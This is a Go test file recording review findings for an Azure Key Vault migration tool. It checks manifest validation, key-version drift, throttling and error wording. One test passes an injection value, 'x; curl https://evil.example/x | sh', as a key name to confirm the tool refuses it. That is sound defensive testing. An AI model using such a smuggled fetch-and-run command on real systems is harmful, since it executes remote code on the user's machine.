package main

// Review findings (issue 15, Azure side): each test fails on the code it
// was written against and passes once the finding is fixed.

import (
	"context"
	"github.com/Azure/azure-sdk-for-go/sdk/azcore"
	"github.com/byok-go/byok/migrate"

	"github.com/Azure/azure-sdk-for-go/sdk/security/keyvault/azkeys"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// azureFleet writes a manifest whose one EC key goes to AWS (the emulator)
// and to the fake Key Vault at vault, and copies the key beside it.
func azureFleet(t *testing.T, vault, extra string) string {
	t.Helper()
	dir := t.TempDir()
	b, err := os.ReadFile(keyFile("p256.sec1.pem"))
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "p.pem"), b, 0o600)
	manifest := filepath.Join(dir, "fleet.yaml")
	os.WriteFile(manifest, []byte(`version: 1
id: review-az
keys:
  - name: signer
    source: {key: p.pem}
    targets:
      - aws: {region: us-east-1}
      - azure: {vault: `+vault+extra+`}
`), 0o600)
	return manifest
}

// byok migrate with the real Azure opener (openAzureTarget, azkv on the real
// azkeys client) against the fake Key Vault, beside an AWS Region: both
// imported and PASSED, and byok status shows both rows.
func TestReviewMigrateAzureRealOpener(t *testing.T) {
	url, _ := startEmulator(t)
	srv, env, _ := azureEnv(t)
	env = append(env, emulatorEnv(t, url)...)
	manifest := azureFleet(t, srv.URL(), "")
	r := runByok(t, env, "migrate", manifest, "--progress", "none")
	if r.code != 0 || !strings.Contains(r.stdout, "proofs: 2 PASSED, 0 FAILED, 0 UNPROVEN") {
		t.Fatalf("migrate: %s", r)
	}
	r = runByok(t, env, "status", manifest)
	if r.code != 0 || !strings.Contains(r.stdout, srv.URL()+"/keys/signer") {
		t.Fatalf("status: %s", r)
	}
	for _, l := range strings.Split(r.stdout+r.stderr, "\n") {
		if len([]rune(l)) > 100 {
			t.Errorf("a line over 100 columns: %q", l)
		}
	}
}

// byok status reads an Azure target by its unversioned name, so it reads
// the key's latest version. After migrate imported version V, anyone who
// adds a version to the key (az keyvault key create or rotate, or another
// import) makes that new version the one every unversioned use picks; its
// key is not the source's, and status still says the target is fine and
// its source "matches". The journal and the audit log hold V (the
// versioned kid), so status can tell.
func TestReviewStatusAzureNewVersionNotFlagged(t *testing.T) {
	url, _ := startEmulator(t)
	srv, env, _ := azureEnv(t)
	env = append(env, emulatorEnv(t, url)...)
	manifest := azureFleet(t, srv.URL(), "")
	if r := runByok(t, env, "migrate", manifest, "--progress", "none"); r.code != 0 {
		t.Fatalf("migrate: %s", r)
	}
	c, err := azkeys.NewClient(srv.URL(), srv.Credential(), srv.ClientOptions())
	if err != nil {
		t.Fatal(err)
	}
	nv, err := c.CreateKey(context.Background(), "signer", azkeys.CreateKeyParameters{Kty: to(azkeys.KeyTypeECHSM), Curve: to(azkeys.CurveNameP256)}, nil)
	if err != nil {
		t.Fatal(err)
	}
	r := runByok(t, env, "status", manifest)
	if strings.Contains(r.stdout, "are fine") {
		t.Fatalf("a new version %s (not the source key) is the key's current one, and status says:\n%s", *nv.Key.KID, r)
	}
}

func to[T any](v T) *T { return &v }

// byok wrap --for azure takes --azure-key unchecked and prints it, bare,
// into the az command the user is told to run: a name that is no Key Vault
// name (1-127 letters, digits and -) becomes shell text. It should be
// refused, naming the flag (exit 2), as --to azure's target refuses it.
func TestReviewWrapAzureKeyNameChecked(t *testing.T) {
	_, kek := azureKEK(t)
	r := runByok(t, cleanEnv(t), "wrap", "--for", "azure", "--kek-id", azureKEKID, "--kek-public", kek,
		"--out", filepath.Join(t.TempDir(), "x.byok"), "--azure-key", "x; curl https://evil.example/x | sh", keyFile("p256.sec1.pem"))
	if r.code != 2 || !strings.Contains(r.stderr, "--azure-key") {
		t.Fatalf("want exit 2 naming --azure-key: %s", r)
	}
}

// The manifest takes an Azure vault on http://127.0.0.1 ("http:// only for
// a fake on the loopback interface", migrate.AzureSpec), but the Azure
// target refuses any http URL. So the manifest check passes, byok migrate
// creates and imports the key in AWS, and only then fails the key on its
// Azure target. Either the manifest check refuses it (exit 2, naming the
// field) or nothing is done in AWS first.
func TestReviewManifestAzureHTTPVault(t *testing.T) {
	url, logs := startEmulator(t)
	_, env, _ := azureEnv(t)
	env = append(env, emulatorEnv(t, url)...)
	manifest := azureFleet(t, "http://127.0.0.1:9", "")
	r := runByok(t, env, "migrate", manifest, "--progress", "none")
	if r.code == 2 && strings.Contains(r.stderr, "vault") {
		return
	}
	if n := strings.Count(logs.String(), "TrentService.CreateKey"); n != 0 {
		t.Fatalf("%d AWS CreateKey before the Azure target was found unusable:\n%s", n, r)
	}
}

// migrate.ThrottleClassifier is how a migration learns that a cloud refused
// a request over its quota (Key Vault: HTTP 429, its doc says) and slows
// that scope down; gcpkms.Target implements it, the Azure target opened for
// a manifest does not, so a vault's 429s never slow the fleet down.
func TestReviewAzureTargetClassifiesThrottling(t *testing.T) {
	srv, env, _ := azureEnv(t)
	for _, kv := range env {
		if k, v, ok := strings.Cut(kv, "="); ok && strings.HasPrefix(k, "BYOK_AZURE_") {
			t.Setenv(k, v)
		}
	}
	tg, err := openAzureTarget(context.Background(), migrate.CloudSpec{Kind: migrate.KindAzure, Azure: &migrate.AzureSpec{Vault: srv.URL(), KeyName: "k"}})
	if err != nil {
		t.Fatal(err)
	}
	tc, ok := tg.(migrate.ThrottleClassifier)
	if !ok {
		t.Fatalf("%T does not implement migrate.ThrottleClassifier", tg)
	}
	if !tc.IsThrottled(&azcore.ResponseError{StatusCode: 429, ErrorCode: "Throttled"}) {
		t.Fatal("a 429 is not a throttle")
	}
}

// byok import --to azure passes azkv.New's refusals through as they are:
// "azkv: key name ...", "azkv: vault URL ...", "the KEK and the key ... are
// both named": the library's words, naming no flag. Each should name the
// flag that is wrong (--azure-key, --azure-vault, --azure-kek).
func TestReviewAzureFlagErrorsNameTheFlag(t *testing.T) {
	env := cleanEnv(t)
	for flagName, args := range map[string][]string{
		"--azure-key":   {"--azure-vault", "https://contoso.vault.azure.net", "--azure-key", "bad name"},
		"--azure-vault": {"--azure-vault", "https://contoso.vault.azure.net/keys", "--azure-key", "k"},
		"--azure-kek":   {"--azure-vault", "https://contoso.vault.azure.net", "--azure-key", "k", "--azure-kek", "k"},
	} {
		r := runByok(t, env, append(append([]string{"import", "--to", "azure"}, args...), keyFile("p256.sec1.pem"))...)
		if r.code != 2 || !strings.Contains(r.stderr, flagName) {
			t.Errorf("want exit 2 naming %s: %s", flagName, r)
		}
	}
}

// byok import --to azure prints the verdict with the AWS wording
// ("PASSED: KMS holds the source key"), and byok status ends a fleet with
// Azure targets with "all 2 KMS keys are fine": Key Vault is not KMS.
func TestReviewAzureOutputSaysKeyVault(t *testing.T) {
	srv, env, _ := azureEnv(t)
	r := mustByok(t, 0, env, "import", "--to", "azure", "--azure-vault", srv.URL(), "--azure-key", "signing", keyFile("p256.sec1.pem"))
	if strings.Contains(r.stdout, "KMS holds") {
		t.Errorf("the Azure verdict speaks of KMS:\n%s", r.stdout)
	}
}

// Held up: two keys of a manifest naming the same Azure key (vault and
// key_name) would both import into one Key Vault key, as two versions; the
// manifest check refuses it, naming the key name and both lines.
func TestReviewManifestSameAzureKeyTwice(t *testing.T) {
	url, _ := startEmulator(t)
	srv, env, logs := azureEnv(t)
	env = append(env, emulatorEnv(t, url)...)
	dir := t.TempDir()
	for _, f := range []string{"p256.sec1.pem", "p384.pkcs8.pem"} {
		b, _ := os.ReadFile(keyFile(f))
		os.WriteFile(filepath.Join(dir, f), b, 0o600)
	}
	manifest := filepath.Join(dir, "fleet.yaml")
	os.WriteFile(manifest, []byte(`version: 1
id: review-az-dup
keys:
  - name: a
    source: {key: p256.sec1.pem}
    targets:
      - azure: {vault: `+srv.URL()+`, key_name: shared}
  - name: b
    source: {key: p384.pkcs8.pem}
    targets:
      - azure: {vault: `+srv.URL()+`, key_name: shared}
`), 0o600)
	r := runByok(t, env, "migrate", manifest, "--progress", "none")
	if r.code != 2 || !strings.Contains(r.stderr, "shared") {
		t.Fatalf("want the manifest refused (exit 2): %s\nvault log:\n%s", r, logs)
	}
}

// A manifest whose AES key goes to AWS and to a key vault (not a Managed
// HSM, which alone imports AES keys): Azure's rule is known before
// anything is done, but migrate creates and imports the key in AWS first
// and only then fails it on the Azure target.
func TestReviewMigrateAzureRulesBeforeAWS(t *testing.T) {
	url, logs := startEmulator(t)
	srv, env, vlog := azureEnv(t)
	env = append(env, emulatorEnv(t, url)...)
	dir := t.TempDir()
	b, _ := os.ReadFile(keyFile("aes256.hex"))
	os.WriteFile(filepath.Join(dir, "k.hex"), b, 0o600)
	manifest := filepath.Join(dir, "fleet.yaml")
	os.WriteFile(manifest, []byte(`version: 1
id: review-az-aes
keys:
  - name: data
    source: {key: k.hex, key_spec: SYMMETRIC_DEFAULT}
    targets:
      - aws: {region: us-east-1}
      - azure: {vault: `+srv.URL()+`}
`), 0o600)
	r := runByok(t, env, "migrate", manifest, "--progress", "none")
	if r.code == 0 {
		t.Fatalf("an AES key into a key vault was not refused: %s", r)
	}
	if n := strings.Count(logs.String(), "TrentService.CreateKey"); n != 0 {
		t.Fatalf("%d AWS CreateKey for a key Azure's rules refuse:\n%s\nvault log:\n%s", n, r, vlog)
	}
}
